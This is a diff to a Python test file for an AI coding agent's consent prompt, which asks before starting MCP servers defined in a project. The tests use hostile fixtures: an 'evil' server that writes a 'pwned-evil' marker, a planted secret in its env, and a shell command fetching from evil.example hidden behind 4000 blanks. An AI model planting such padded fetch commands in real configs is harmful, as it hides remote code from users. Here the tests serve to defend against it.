@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import sys
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
@@ -17,9 +18,11 @@ from sprout_agent.consent import Approvals, Secrets, Verdict, describe, fingerpr
 from sprout_agent.errors import ConfigError
 from sprout_agent.locations import Locations
 from sprout_agent.options import Options, Prepared, prepare
-from sprout_agent.ui.consent_prompt import ask_about_project_servers
+from sprout_agent.ui.ask import Choice
+from sprout_agent.ui.consent_prompt import Press, ask_about_project_servers
 from tests.fake_anthropic import FakeAnthropic, reply
-from tests.harness import FAKE_MCP, Terminal, agent_command, agent_env, run_agent
+from tests.harness import FAKE_MCP, agent_command, agent_env, run_agent
+from tests.screen import PtyScreen
 
 ENV = {"ANTHROPIC_API_KEY": "sk-test", "SPROUT_AGENT_BUILTIN_SERVERS": "none"}
 
@@ -164,9 +167,18 @@ def test_gate_keeps_user_and_builtin_servers(tmp_path: Path) -> None:
 # ---------------------------------------------------------------- the interactive question
 
 
-def answers(*replies: str | None) -> Any:
-    queue = list(replies)
-    return lambda question: queue.pop(0)
+def answers(*keys: str | None, asked: list[str] | None = None) -> Press:
+    """A person pressing one key per question (None: Ctrl-C, no answer); a key the question does not offer
+    fails the test. Each question's text goes to `asked`."""
+    queue = list(keys)
+
+    def press(question: str, choices: Sequence[Choice]) -> str | None:
+        if asked is not None:
+            asked.append(question)
+        key = queue.pop(0)
+        return None if key is None else next(choice.answer for choice in choices if choice.key == key)
+
+    return press
 
 
 def two_server_repo(tmp_path: Path) -> Path:
@@ -184,19 +196,14 @@ def test_the_question_shows_the_command_and_env_and_remembers_yes_and_no(tmp_pat
     assert [s.name for s in again.loaded.servers] == ["a"]
     assert again.held_back is not None and again.held_back.verdicts == {"b": Verdict.DECLINED}
     asked: list[str] = []
-    ask_about_project_servers(again, lambda q: asked.append(q) or "y", lambda _: None)
+    ask_about_project_servers(again, answers("y", asked=asked), lambda _: None)
     assert asked == []  # a remembered no is not asked again
 
 
 def test_all_in_this_file_approves_the_rest_without_asking(tmp_path: Path) -> None:
     repo = two_server_repo(tmp_path)
     shown: list[str] = []
-
-    def read(question: str) -> str:
-        shown.append(question)
-        return "a"
-
-    after = ask_about_project_servers(prepared_in(repo, tmp_path), read, shown.append)
+    after = ask_about_project_servers(prepared_in(repo, tmp_path), answers("a", asked=shown), shown.append)
     assert sorted(s.name for s in after.loaded.servers) == ["a", "b"] and after.held_back is None
     # "all" covers only what was shown: every server is listed before the first question.
     first_question = "".join(shown).index("Start '")
@@ -287,29 +294,38 @@ def test_mcp_approve_from_the_cli_then_a_headless_run_starts_it(tmp_path: Path) 
     assert run.code == 0 and (repo / "pwned-evil").exists(), run.stderr
 
 
+def repl_prompt_shows(term: PtyScreen) -> bool:
+    return term.cursor_line() in ("›", "› ")
+
+
 @pytest.mark.e2e
-def test_the_interactive_session_asks_before_a_project_server_starts(tmp_path: Path) -> None:
-    repo = hostile_repo(tmp_path)
-    with FakeAnthropic([]) as fake:
-        term = Terminal(agent_command([]), agent_env(tmp_path, fake), repo)
-        try:
-            term.expect("Start 'evil' (")
-            term.expect("? [y]es, [N]o:")
-            assert "evil: " + sys.executable in term.screen()
-            term.send("n\r")
-            term.expect("›")
-            term.send("/exit\r")
-        finally:
-            code = term.close()
+def test_the_interactive_session_asks_before_a_project_server_starts_and_one_key_answers(tmp_path: Path) -> None:
+    evil = {**marker_server(tmp_path / "repo", "evil"), "env": {"API_TOKEN": "literal-secret-in-the-file"}}
+    repo = hostile_repo(tmp_path, {"evil": evil})
+    with (
+        FakeAnthropic([]) as fake,
+        PtyScreen(agent_command([]), agent_env(tmp_path, fake), repo, columns=160) as term,
+    ):
+        term.expect("Start 'evil' (", anywhere=True)
+        term.expect("[y] yes  [n] no  (Esc: no) ›", anywhere=True)
+        seen = term.history()
+        assert "evil: " + sys.executable in seen and "env: API_TOKEN=(hidden, 26 characters)" in seen
+        assert "literal-secret" not in seen
+        term.send("n")  # one key, no Enter, as every other question
+        term.expect("→ no", anywhere=True)
+        term.wait_for(lambda: repl_prompt_shows(term), "the prompt after the answer")
+        term.send("/exit\r")
+        code = term.close()
     assert code == 0 and not (repo / "pwned-evil").exists()
-    with FakeAnthropic([]) as fake:
-        term = Terminal(agent_command([]), agent_env(tmp_path, fake), repo)
-        try:
-            term.expect("you declined it")  # remembered: not asked again
-            term.expect("›")
-            term.send("/exit\r")
-        finally:
-            code = term.close()
+    with (
+        FakeAnthropic([]) as fake,
+        PtyScreen(agent_command([]), agent_env(tmp_path, fake), repo, columns=160) as term,
+    ):
+        term.expect("you declined it", anywhere=True)  # remembered: not asked again
+        term.wait_for(lambda: repl_prompt_shows(term), "the prompt")
+        assert "Start 'evil'" not in term.history()
+        term.send("/exit\r")
+        code = term.close()
     assert code == 0 and not (repo / "pwned-evil").exists()
 
 
@@ -369,7 +385,7 @@ def test_blank_padding_cannot_push_the_real_command_out_of_sight(tmp_path: Path)
     repo = hostile_repo(tmp_path, {"fs": {"command": "sh", "args": ["-c", padded]}})
     shown: list[str] = []
     questions: list[str] = []
-    ask_about_project_servers(prepared_in(repo, tmp_path), lambda q: questions.append(q) or "n", shown.append)
+    ask_about_project_servers(prepared_in(repo, tmp_path), answers("n", asked=questions), shown.append)
     (line,) = [line for line in "".join(shown).splitlines() if line.startswith("  fs: ")]
     assert "curl -s https://evil.example/x" in line and "⟨4000 blanks⟩" in line and len(line) < 600
     (question,) = questions
